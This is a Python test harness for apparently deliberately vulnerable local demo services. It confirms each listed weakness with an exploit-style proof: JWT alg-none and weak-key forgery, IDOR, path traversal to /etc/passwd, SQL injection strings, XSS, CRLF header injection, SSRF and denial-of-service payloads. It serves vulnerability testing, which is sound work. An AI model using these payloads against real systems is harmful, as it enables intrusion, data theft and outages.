"""That each weakness is there in the weak service, alone too, and not in its fixed twin: one exploit for each.

The exploits know the service; no scanner could pass by them. ``weaknesses.yaml`` says in words what they show.
"""

import argparse
import base64
import json
import re
import subprocess
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import common
import httpx
import jwt
import yaml

HERE = Path(__file__).resolve().parent
PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
PROOFS = {}


def proof(service, weakness):
    def register(function):
        PROOFS[service, weakness] = function
        return function

    return register


class Client(httpx.Client):
    """A client of one service; knows how its people sign in."""

    def __init__(self, service, url, process):
        super().__init__(base_url=url, trust_env=False, timeout=30)
        self.service, self.process = service, process

    def token(self, name):
        body = {"username": name, "password": PASSWORD[name]}
        if self.service == "helpdesk":
            return self.ask("mutation($u: String!, $p: String!) {login(username: $u, password: $p) {token}}", u=name, p=PASSWORD[name]).json()["data"]["login"]["token"]
        answer = self.post("/login", json=body).json()
        return answer.get("access_token") or answer["token"]

    def as_(self, name):
        if self.service == "stockroom":
            return {"Authorization": "Basic " + base64.b64encode(f"{name}:{PASSWORD[name]}".encode()).decode()}
        if self.service == "storefront":
            answer = self.post("/login", data={"username": name, "password": PASSWORD[name]})
            self.cookies.clear()
            return {"Cookie": answer.headers["set-cookie"].partition(";")[0]}
        return {"Authorization": f"Bearer {self.token(name)}"}

    def ask(self, query, caller=None, **variables):
        return self.post("/graphql", json={"query": query, "variables": variables}, headers=caller or {})

    def csrf(self, caller):
        return re.search('name=csrf_token value="([^"]+)"', self.get("/account", headers=caller).text)[1]


@proof("bookings", "weak-key")
def _(client):
    try:
        return bool(jwt.decode(client.token("ann"), "secret", ["HS256"]))
    except jwt.PyJWTError:
        return False


@proof("bookings", "alg-none")
def _(client):
    claims = jwt.decode(client.token("ann"), options={"verify_signature": False})
    return client.get("/me", headers={"Authorization": "Bearer " + jwt.encode(claims | {"sub": "olga"}, "", "none")}).status_code == 200


@proof("bookings", "booking-read")
def _(client):
    identifier = client.get("/bookings", headers=client.as_("ann")).json()[0]["id"]
    return client.get(f"/bookings/{identifier}", headers=client.as_("ben")).status_code == 200


@proof("bookings", "booking-delete")
def _(client):
    identifier = client.get("/bookings", headers=client.as_("ann")).json()[0]["id"]
    return client.delete(f"/bookings/{identifier}", headers=client.as_("ben")).status_code == 204


@proof("bookings", "admin-open")
def _(client):
    return client.get("/admin/bookings", headers=client.as_("ben")).status_code == 200


@proof("bookings", "role-assign")
def _(client):
    body = {"username": "zoe.hill", "password": "poplar-Window-64", "email": "zoe@west.example", "role": "admin"}
    return client.post("/accounts", json=body).json()["role"] == "admin"


@proof("bookings", "login-unlimited")
def _(client):
    return {client.post("/login", json={"username": "carol", "password": f"wrong-{n}"}).status_code for n in range(20)} == {401}


@proof("bookings", "login-texts")
def _(client):
    return len({client.post("/login", json={"username": name, "password": "wrong"}).text for name in ("carol", "nobody-here")}) == 2


@proof("papers", "download-outside")
def _(client):
    return "root:x:0:0" in client.get("/templates", params={"file": "../../../etc/passwd"}, headers=client.as_("ann")).text


@proof("papers", "paper-read")
def _(client):
    identifier = client.get("/papers", headers=client.as_("ann")).json()[0]["id"]
    return client.get(f"/papers/{identifier}", headers=client.as_("ben")).status_code == 200


@proof("papers", "import-anything")
def _(client):
    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"inner")

        def log_message(self, *_):
            pass

    server = HTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        answer = client.post("/imports", json={"url": f"http://127.0.0.1:{server.server_port}/"}, headers=client.as_("ann"))
        return answer.status_code == 201 and answer.json()["text"] == "inner"
    finally:
        server.shutdown()
        server.server_close()


@proof("papers", "upload-any")
def _(client):
    caller = client.as_("ann")
    answer = client.post("/scans", files={"file": ("page.html", b"<script>1</script>", "text/html")}, headers=caller)
    return answer.status_code == 201 and client.get(answer.json()["address"], headers=caller).headers["content-type"].startswith("text/html")


@proof("papers", "size-open")
def _(client):
    return client.post("/papers", json={"title": "Long", "text": "x" * 2_000_000}, headers=client.as_("ann")).status_code == 201


@proof("papers", "stacks")
def _(client):
    return "Traceback" in client.post("/papers", json={"title": 5, "text": "x"}, headers=client.as_("ann")).text


@proof("papers", "cors-all")
def _(client):
    headers = client.get("/version", headers={"Origin": "https://elsewhere.example"}).headers
    return headers.get("access-control-allow-origin") == "https://elsewhere.example" and "access-control-allow-credentials" in headers


@proof("papers", "export-formula")
def _(client):
    caller = client.as_("ann")
    client.post("/papers", json={"title": "Sum", "text": "=1+1"}, headers=caller)
    return ",=1+1" in client.get("/export.csv", headers=caller).text


@proof("parcels", "token-counted")
def _(client):
    first, second = (re.sub(r"\D", "", client.token("ann")[-6:]) for _ in range(2))
    return first.isdigit() and second.isdigit() and int(second) == int(first) + 1


@proof("parcels", "parcel-read")
def _(client):
    identifier = client.get("/parcels", headers=client.as_("ann")).json()["items"][0]["id"]
    return client.get(f"/parcels/{identifier}", headers=client.as_("ben")).status_code == 200


@proof("parcels", "role-patch")
def _(client):
    return client.patch("/me", json={"phone": "0123456", "role": "admin"}, headers=client.as_("carol")).json()["role"] == "admin"


@proof("parcels", "reset-texts")
def _(client):
    return len({client.post("/password-resets", json={"email": email}).text for email in ("ann@north.example", "no@no.example")}) == 2


@proof("parcels", "logout-open")
def _(client):
    caller = client.as_("ann")
    client.post("/logout", headers=caller)
    return client.get("/me", headers=caller).status_code == 200


@proof("parcels", "page-open")
def _(client):
    return client.get("/parcels", params={"limit": 1_000_000}, headers=client.as_("ann")).status_code == 200


@proof("parcels", "courier-data")
def _(client):
    caller = client.as_("ann")
    identifier = client.get("/parcels", headers=caller).json()["items"][0]["id"]
    return "iban" in client.get(f"/parcels/{identifier}", headers=caller).text


@proof("parcels", "limit-forwarded")
def _(client):
    return {client.post("/login", json={"username": "carol", "password": "wrong"}, headers={"X-Forwarded-For": f"10.0.0.{n}"}).status_code for n in range(12)} == {401}


@proof("storefront", "search-script")
def _(client):
    return "<script>1</script>" in client.get("/search", params={"q": "<script>1</script>"}).text


@proof("storefront", "review-script")
def _(client):
    caller = client.as_("ann")
    client.post("/products/2/reviews", data={"text": "<b onclick=x>", "csrf_token": client.csrf(caller)}, headers=caller)
    return "<b onclick=x>" in client.get("/products/2").text


@proof("storefront", "leave-anywhere")
def _(client):
    return client.get("/leave", params={"to": "https://elsewhere.example/"}).headers.get("location") == "https://elsewhere.example/"


@proof("storefront", "session-kept")
def _(client):
    client.post("/login", data={"username": "ann", "password": PASSWORD["ann"]}, headers={"Cookie": "sid=chosen-before"})
    client.cookies.clear()
    return client.get("/account", headers={"Cookie": "sid=chosen-before"}).status_code == 200


@proof("storefront", "cookie-bare")
def _(client):
    cookie = client.get("/login").headers["set-cookie"].lower()
    client.cookies.clear()
    return not any(flag in cookie for flag in ("httponly", "secure", "samesite"))


@proof("storefront", "form-forged")
def _(client):
    return client.post("/account", data={"phone": "0123456"}, headers=client.as_("ann")).status_code == 303


@proof("storefront", "host-link")
def _(client):
    return "elsewhere.example" in client.get("/invite", headers=client.as_("ann") | {"Host": "elsewhere.example"}).text


@proof("storefront", "headers-missing")
def _(client):
    return not {"content-security-policy", "x-frame-options", "x-content-type-options"} & set(client.get("/").headers)


@proof("helpdesk", "introspection")
def _(client):
    return "Mutation" in client.ask("{__schema {types {name}}}").text


@proof("helpdesk", "ticket-read")
def _(client):
    identifier = client.ask("{tickets {id}}", client.as_("ann")).json()["data"]["tickets"][0]["id"]
    return identifier in client.ask("query($id: ID!) {ticket(id: $id) {id text}}", client.as_("ben"), id=identifier).text


@proof("helpdesk", "people-open")
def _(client):
    return "olga" in client.ask("{people {username email}}", client.as_("ben")).text


@proof("helpdesk", "search-sql")
def _(client):
    return '"ben"' in client.ask("query($w: String!) {search(words: $w) {owner}}", client.as_("ann"), w="%' OR 1=1 --").text


@proof("helpdesk", "errors-detailed")
def _(client):
    body = b'{"query": "query($w: String!) {search(words: $w) {id}}", "variables": {"w": "\\ud800"}}'
    return "stacktrace" in client.post("/graphql", content=body, headers=client.as_("ann") | {"Content-Type": "application/json"}).text


@proof("helpdesk", "settings-secrets")
def _(client):
    return "password_hash" in client.ask("{me {settings}}", client.as_("ann")).text


@proof("helpdesk", "register-role")
def _(client):
    account = {"username": "zoe.hill", "password": "poplar-Window-64", "email": "zoe@west.example", "role": "admin"}
    return '"admin"' in client.ask("mutation($a: Registration!) {register(account: $a) {role}}", a=account).text.replace("role: ", "")


@proof("helpdesk", "depth-open")
def _(client):
    query = "{tickets " + "{related " * 9 + "{id}" + "}" * 10
    return '"errors"' not in client.ask(query, client.as_("ann")).text


@proof("stockroom", "nested-body")
def _(client):
    nested = '{"name": "Nut", "note": ' + "[" * 30_000 + "]" * 30_000 + "}"
    try:
        client.post("/items", content=nested, headers=client.as_("ann") | {"Content-Type": "application/json"})
    except httpx.TransportError:
        return client.process.wait(10) != 0
    return False


@proof("stockroom", "slow-pattern")
def _(client):
    caller = client.as_("ann")
    quick = client.post("/items", json={"name": "Nut", "note": "aaa"}, headers=caller).elapsed
    return client.post("/items", json={"name": "Nut", "note": "a" * 40 + "!"}, headers=caller).elapsed > 10 * quick


@proof("stockroom", "label-header")
def _(client):
    return "x-other" in client.get("/items/HMR-01/label?language=de%0d%0aX-Other:1", headers=client.as_("ann")).headers


@proof("stockroom", "sort-sql")
def _(client):
    orders = [
        client.get("/items", params={"sort": f"CASE WHEN {condition} THEN name ELSE count END"}, headers=client.as_("ann")).text
        for condition in ("1=1", "1=2")
    ]
    return orders[0] != orders[1]


@proof("stockroom", "movements-open")
def _(client):
    return client.get("/movements").status_code == 200


@proof("stockroom", "supplier-keys")
def _(client):
    return "sk_live_" in client.get("/suppliers", headers=client.as_("ann")).text


@proof("stockroom", "trace-served")
def _(client):
    return "x-mark: 1" in client.request("TRACE", "/version", headers={"X-Mark": "1"}).text.lower()


@proof("stockroom", "count-errors")
def _(client):
    return client.get("/items", params={"at_least": "x"}, headers=client.as_("ann")).status_code == 500


def shows(service, weakness, switched, folder):
    """Whether a service with these options has the weakness."""
    command = [sys.executable, str(HERE / service / "service.py"), "--folder", str(folder), *switched]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as process:
        try:
            port = json.loads(process.stdout.readline())["port"]
            with Client(service, f"http://127.0.0.1:{port}", process) as client:
                return bool(PROOFS[service, weakness](client))
        finally:
            process.kill()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("services", nargs="*")
    options = parser.parse_args()
    listed = [(entry["service"], entry["id"]) for entry in yaml.safe_load((HERE / "weaknesses.yaml").read_text())]
    wrong = [f"{service} {weakness}: expected a proof and an entry, observed one of them" for service, weakness in set(listed) ^ set(PROOFS)]
    print(*wrong, sep="\n", end="")
    listed = [pair for pair in listed if not options.services or pair[0] in options.services]
    with tempfile.TemporaryDirectory() as temporary:
        Path(temporary).chmod(0o755)
        for number, (service, weakness) in enumerate(listed):
            for name, switched, expected in (("weak", ["--weak"], True), ("alone", ["--weak", weakness], True), ("fixed", [], False)):
                try:
                    seen = shows(service, weakness, switched, Path(temporary) / f"{number}-{name}")
                except Exception as error:
                    seen = f"{type(error).__name__}: {error}"
                if seen is not expected:
                    wrong.append(f"{service} {weakness}, {name}: expected {expected}, observed {seen}")
                    print(wrong[-1], flush=True)
    print(f"{len(listed)} weaknesses, {len(wrong)} wrong")
    sys.exit(bool(wrong))


if __name__ == "__main__":
    main()
